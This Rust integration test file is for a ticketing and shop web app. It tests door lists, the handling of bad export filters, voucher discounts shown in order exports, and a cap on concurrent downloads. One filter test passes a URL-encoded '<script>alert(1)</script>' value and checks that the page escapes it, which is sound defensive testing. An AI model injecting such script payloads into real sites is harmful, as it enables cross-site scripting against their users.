        page.matches("class=\"tick ticked\"").count(),
        1,
        "the used one ticked"
    );
    let used_row = rows.iter().find(|r| r.1 == used).unwrap();
    assert_eq!(used_row.2, "used");
    let refunded_code = code_of(orders[3].id).await;
    assert_eq!(
        rows.iter().find(|r| r.1 == refunded_code).unwrap().2,
        "refunded"
    );
    assert!(page.contains("Refunded — does not admit"));
    assert!(
        page.contains("at North door by grace@holdfast.test"),
        "{page}"
    );
    assert!(
        page.contains("Harbour Lights — VIP")
            && page.contains("Harbour Lights — General admission")
    );
    assert!(
        page.contains("5 codes, 1 already used, 1 refunded"),
        "{page}"
    );
    assert!(!page.contains("Ada Shopper") && !page.contains("Pickup:"));
    // one tier; one slot, with its pickup code
    let vip = app
        .admin_page(&staff, "/admin/door-list?product=harbour-lights-vip")
        .await;
    let vip_names: Vec<String> = door_rows(&vip).into_iter().map(|r| r.0).collect();
    assert_eq!(vip_names, ["Cy Refunded", "Zed Last"]);
    assert!(
        vip.contains("Door's list: Harbour Lights — VIP — "),
        "{vip}"
    );
    let bakery = app
        .admin_page(&staff, &format!("/admin/door-list?product={slot}"))
        .await;
    assert_eq!(door_rows(&bakery).len(), 1);
    assert!(bakery.contains("Sourdough box, pickup "), "{bakery}");

    // it prints: the stylesheet's print rules leave the menus off the paper
    assert!(page.contains("<link rel=\"stylesheet\" href=\"/static/shop.css\">"));
    let css = app
        .client
        .get(format!("{}/static/shop.css", app.address))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let print = &css[css.find("@media print").expect("print rules")..];
    assert!(print.contains(".top, .no-print") && print.contains("display: none"));
    assert!(print.contains(".door-list thead { display: table-header-group; }"));
    assert!(page.contains("class=\"small no-print\""));

    // a door's list names a sale, and is in Activity
    let unnamed = staff
        .get(format!("{}/admin/door-list?state=", app.address))
        .send()
        .await
        .unwrap();
    assert_eq!(unnamed.status(), StatusCode::BAD_REQUEST);
    let lists: Vec<String> = sqlx::query_scalar(
        "select target from staff_actions where action = 'door_list' order by id",
    )
    .fetch_all(&app.db.pool)
    .await
    .unwrap();
    assert_eq!(
        lists,
        [
            "collection harbour-lights".to_owned(),
            "product harbour-lights-vip".to_owned(),
            format!("product {slot}"),
        ]
    );

    // a sale too large for one list says so, and lists nobody
    sqlx::query(
        "insert into order_items (code, order_id, product_id) \
         select 'MANY-' || g, $1, 'harbour-lights-general' from generate_series(1, 5000) g",
    )
    .bind(orders[0].id)
    .execute(&app.db.pool)
    .await
    .unwrap();
    let many = app
        .admin_page(&staff, "/admin/door-list?product=harbour-lights-general")
        .await;
    assert!(many.contains("id=\"too-many\"") && many.contains("More than 5000 codes"));
    assert!(!many.contains("id=\"door-list\""));
    // the exports page offers the lists
    let exports = app.admin_page(&staff, "/admin/exports").await;
    assert!(exports.contains("/admin/door-list?collection=harbour-lights"));
    assert!(exports.contains(&format!("/admin/door-list?product={slot}")));
    // a jar is collected with its code at the counter: it has a list too
    assert!(
        exports.contains("/admin/door-list?product=wild-honey"),
        "honey's jars have codes"
    );
    assert!(hidden_attr(&exports, "formaction").starts_with("/admin/exports/"));
}

/// Text as a page escapes it, read back (askama's escapes).
fn unescaped(html: &str) -> String {
    html.replace("&#34;", "\"")
        .replace("&#39;", "'")
        .replace("&#60;", "<")
        .replace("&#62;", ">")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&#38;", "&")
        .replace("&amp;", "&")
}

/// What staff_actions holds: every row, as text.
async fn activity(app: &TestApp) -> Vec<String> {
    sqlx::query_scalar("select row(a.*)::text from staff_actions a order by id")
        .fetch_all(&app.db.pool)
        .await
        .unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_filter_that_cannot_be_read_is_said_on_the_page_and_nothing_is_exported() {
    let (app, staff, _) = shop_in_berlin().await;
    paid(&app.db, "bad-filters", &[("harbour-lights-vip", 1)]).await;
    let before = snapshot(&app.db.pool).await;
    let recorded = activity(&app).await;
    for (query, status, said) in [
        (
            "state=lost",
            StatusCode::BAD_REQUEST,
            "Order state: \"lost\" is not one; an order is pending, settling, paid",
        ),
        (
            "paid_from=1+December",
            StatusCode::BAD_REQUEST,
            "Paid from: \"1 December\" is not a date. Write it as 2026-12-01.",
        ),
        (
            "paid_to=2026-02-30",
            StatusCode::BAD_REQUEST,
            "Paid to: \"2026-02-30\" is not a date.",
        ),
        (
            "starts_from=0001-01-01",
            StatusCode::BAD_REQUEST,
            "Starts from: \"0001-01-01\" is not a year the shop sells in.",
        ),
        (
            "starts_from=2026-12-02&starts_to=2026-12-01",
            StatusCode::BAD_REQUEST,
            "starts from 2026-12-02 is after starts to 2026-12-01",
        ),
        (
            "collection=bakery&product=harbour-lights-vip",
            StatusCode::BAD_REQUEST,
            "\"harbour-lights-vip\" is part of \"harbour-lights\", not of \
             \"bakery\"",
        ),
        (
            "product=no-such-thing",
            StatusCode::NOT_FOUND,
            "The shop has no product, tier or slot \"no-such-thing\".",
        ),
        (
            "collection=no-such-sale",
            StatusCode::NOT_FOUND,
            "The shop has no event or shop part \"no-such-sale\".",
        ),
        (
            "state=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            StatusCode::BAD_REQUEST,
            "\"<script>alert(1)</script>\" is not one",
        ),
    ] {
        for path in [
            "/admin/exports/orders.csv",
            "/admin/exports/attendees.csv",
            "/admin/door-list",
        ] {
            let response = staff
                .get(format!("{}{path}?{query}", app.address))
                .send()
                .await
                .unwrap();
            assert_eq!(response.status(), status, "{path}?{query}");
            assert!(response.headers().get(CONTENT_DISPOSITION).is_none());
            assert!(
                response.headers()[CONTENT_TYPE]
                    .to_str()
                    .unwrap()
                    .starts_with("text/html")
            );
            let page = response.text().await.unwrap();
            let notice = &page[page.find("id=\"export-error\"").expect("the error")..];
            let notice = unescaped(&notice[..notice.find("</div>").unwrap()]);
            assert!(notice.contains(said), "{path}?{query}: {notice}");
            assert_eq!(
                notice.matches("Nothing was exported.").count()
                    + notice.matches("No list was made.").count(),
                1,
                "said once: {notice}"
            );
            assert!(!page.contains("<script>alert"), "escaped");
            assert!(!page.contains("TKT-"), "no code on a refused page");
        }
    }
    // the exports page sends the form back as it was sent
    let page = staff
        .get(format!(
            "{}/admin/exports/orders.csv?collection=harbour-lights&product=harbour-lights-vip\
             &state=paid&paid_from=2026-12-01&paid_to=2026-11-01",
            app.address
        ))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        page.contains("<option value=\"harbour-lights\" selected>"),
        "{page}"
    );
    assert!(page.contains("<option value=\"harbour-lights-vip\" selected>"));
    assert!(page.contains("<option value=\"paid\" selected>"));
    assert!(page.contains("name=\"paid_from\" value=\"2026-12-01\""));
    assert!(page.contains("name=\"paid_to\" value=\"2026-11-01\""));
    assert_eq!(page.matches(" selected>").count(), 3);
    // nothing changed, nothing recorded
    assert_eq!(snapshot(&app.db.pool).await, before);
    assert_eq!(activity(&app).await, recorded);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_order_with_a_voucher_shows_what_each_line_paid() {
    let (app, staff, _) = shop_in_berlin().await;
    let created = holdfast::vouchers::create(
        &app.db.pool,
        &holdfast::vouchers::NewVoucher {
            code: "FRIENDS-10".into(),
            percent_off: Some(10),
            amount_off_minor: None,
            per_unit: false,
            currency: None,
            uses: 5,
            products: Some(vec!["harbour-lights-vip".into()]),
            unlocks: Vec::new(),
            valid_from: None,
            valid_until: None,
            per_buyer: false,
        },
        "eur",
        STAFF_EMAIL,
    )
    .await
    .unwrap();
    assert!(matches!(
        created,
        holdfast::vouchers::Created::Created { .. }
    ));
    // the shopper buys two general tickets and a VIP seat with the code
    let shopper = browser();
    app.add(&shopper, "harbour-lights-general", 2).await;
    app.add(&shopper, "harbour-lights-vip", 1).await;
    let basket = read_page(&shopper, &format!("{}/basket", app.address)).await;
    let started = shopper
        .post(format!("{}/checkout", app.address))
        .form(&[
            ("checkout_key", checkout_key(&basket).as_str()),
            ("lines", form_lines(&basket).as_str()),
            ("name", "Vi Voucher"),
            ("email", "vi@example.com"),
            ("voucher", "friends-10"),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(started.status(), StatusCode::SEE_OTHER);
    let paid_page = pay_on_page(&location(&started), "pay").await;
    assert_eq!(paid_page.status(), StatusCode::SEE_OTHER);
    let back = shopper.get(location(&paid_page)).send().await.unwrap();
    assert_eq!(back.status(), StatusCode::SEE_OTHER);
    let token = token_of(&location(&back));
    app.wait_for_state(&token, "paid").await;
    let (order_id, amount_minor): (uuid::Uuid, i64) =
        sqlx::query_as("select id, amount_minor from orders where token = $1")
            .bind(&token)
            .fetch_one(&app.db.pool)
            .await
            .unwrap();
    // 10% off the VIP seat only: €90.00 less €9.00
    assert_eq!(amount_minor, 7000 + 8100, "what the provider was asked for");

    let rows = orders(&app, &staff, "").await;
    assert_eq!(rows.len(), 1);
    let row = &rows[0];
    assert_eq!(row["order_id"], order_id.to_string());
    assert_eq!(
        row["lines"],
        "2 × Harbour Lights — General admission (€70.00); 1 × Harbour Lights — VIP (€81.00)"
    );
    assert_eq!(row["subtotal_minor"], "16000");
    assert_eq!(row["voucher"], "FRIENDS-10");
    assert_eq!(
        (row["discount_minor"].as_str(), row["discount"].as_str()),
        ("900", "€9.00")
    );
    assert_eq!(
        (row["amount_minor"].as_str(), row["amount"].as_str()),
        ("15100", "€151.00"),
        "what was paid, not the list price"
    );
    let paid_by_lines: i64 = sqlx::query_scalar(
        "select sum(coalesce(paid_minor, unit_price_minor * qty))::int8 from order_lines \
          where order_id = $1",
    )
    .bind(order_id)
    .fetch_one(&app.db.pool)
    .await
    .unwrap();
    assert_eq!(row["amount_minor"], paid_by_lines.to_string());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_fifth_download_at_once_waits_then_is_told_to_try_again() {
    let (app, staff, _) = shop_in_berlin().await;
    let order = paid(&app.db, "many-at-once", &[("harbour-lights-general", 1)]).await;
    // a file larger than the buffers between the server and a client that
    // does not read, so that each download below stays open
    sqlx::query("update orders set customer_name = $2, customer_email = $3 where id = $1")
        .bind(order.id)
        .bind("n".repeat(200))
        .bind(format!("{}@example.com", "a".repeat(200)))
        .execute(&app.db.pool)
        .await
        .unwrap();
    sqlx::query(
        "insert into order_items (code, order_id, product_id) \
         select 'MANY-' || lpad(g::text, 6, '0'), $1, 'harbour-lights-general' \
           from generate_series(1, 40000) g",
    )
    .bind(order.id)
    .execute(&app.db.pool)
    .await
    .unwrap();
    let url = format!("{}/admin/exports/attendees.csv", app.address);
    let mut open = Vec::new();
    for _ in 0..4 {
        let mut response = staff.get(&url).send().await.unwrap();
        assert_eq!(response.status(), StatusCode::OK);
        response.chunk().await.unwrap().expect("a first chunk");
        open.push(response);
    }
    // four are streaming and none is read: the fifth waits, then is told
    let asked = std::time::Instant::now();
    let fifth = staff.get(&url).send().await.unwrap();
    assert_eq!(fifth.status(), StatusCode::SERVICE_UNAVAILABLE);
    assert!(
        asked.elapsed() >= Duration::from_secs(4),
        "it waited for a turn"
    );
    assert!(fifth.headers().get(CONTENT_DISPOSITION).is_none());
    let page = unescaped(&fifth.text().await.unwrap());
    assert!(
        page.contains(
            "Other exports are being downloaded right now. Try again when one has finished."
        ),
        "{page}"
    );
    // one download given up frees its turn
    drop(open.pop());
    let mut next = None;
    for _ in 0..50 {
        let response = staff.get(&url).send().await.unwrap();
        if response.status() == StatusCode::OK {
            next = Some(response);
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let next = next.expect("a turn after one download was dropped");
    let text = next.text().await.unwrap();
    assert_eq!(records(&text, ATTENDEE_COLUMNS).len(), 40_001);
}
